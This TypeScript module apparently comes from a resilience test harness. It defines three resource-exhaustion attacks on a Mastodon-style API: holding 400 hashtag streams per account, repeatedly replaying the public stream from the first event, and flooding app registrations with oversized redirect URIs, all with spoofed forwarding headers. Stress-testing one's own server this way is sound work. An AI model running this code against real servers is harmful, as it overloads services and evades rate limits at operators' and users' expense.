import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, HostileSite } from './attack.ts';
import { atPace, FORWARDED } from './attacker.ts';

/** Streams of hashtags that one account tries to hold. */
const CHANNELS = 400;

/** Reads a stream until the signal, without doing anything with it. */
async function hold(url: string, headers: Record<string, string>, signal: AbortSignal): Promise<void> {
  const response = await fetch(url, { headers: { ...FORWARDED, ...headers }, signal });
  await response.body?.pipeTo(new WritableStream());
}

async function holdHashtags({ site, attacker }: HostileSite, signal: AbortSignal): Promise<void> {
  const headers = { authorization: `Bearer ${attacker.token}` };
  const held: Promise<void>[] = [];
  for (let n = 0; n < CHANNELS && !signal.aborted; n += 1) {
    const url = `${site.url}/api/v1/streaming/hashtag?tag=tag${n}`;
    held.push(hold(url, headers, signal).catch(() => undefined));
    await sleep(3);
  }
  await Promise.all(held);
}

/** Comes again and again with the oldest place of all. */
async function catchUp({ site, attacker }: HostileSite, signal: AbortSignal): Promise<void> {
  const headers = { ...FORWARDED, authorization: `Bearer ${attacker.token}`, 'last-event-id': '1' };
  await atPace(4, signal, () => {
    const soon = AbortSignal.any([signal, AbortSignal.timeout(2_000)]);
    return fetch(`${site.url}/api/v1/streaming/public`, { headers, signal: soon });
  });
}

/** Streams of one account, and applications of one address. */
export const STREAM_ATTACKS: readonly Attack[] = [
  { name: `streams: ${CHANNELS} hashtags of one account`, run: holdHashtags },
  { name: 'streams: catching up from the first event', run: catchUp },
  {
    name: 'apps: 50 registrations a second',
    run: ({ site }, signal) =>
      atPace(50, signal, () =>
        fetch(`${site.url}/api/v1/apps`, {
          method: 'POST',
          headers: { ...FORWARDED, 'content-type': 'application/json' },
          body: JSON.stringify({
            client_name: 'x',
            redirect_uris: `https://app.example/${'x'.repeat(1_900)}`,
          }),
          signal,
        }),
      ),
  },
];
